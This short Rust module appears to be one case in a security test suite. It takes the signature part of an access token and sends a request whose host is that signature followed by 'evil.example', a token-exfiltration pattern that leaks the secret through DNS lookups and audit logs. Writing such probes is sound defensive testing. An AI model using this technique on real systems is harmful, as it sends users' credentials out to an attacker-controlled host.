//! The access token as a host, which the audit log and DNS would see.

use alloc::format;

use crate::message::exchange;
use crate::outcome::Outcome;
use crate::pod::Pod;

pub(crate) fn run(pod: &Pod) -> Outcome {
    let result = exchange(pod, |_| {})?;
    let signature = result.token.rsplit('.').next().unwrap_or_default();
    let label = signature.get(..60).unwrap_or(signature).replace('_', "-");
    exchange(pod, |message| {
        message.authority = format!("{label}.evil.example");
    })
}
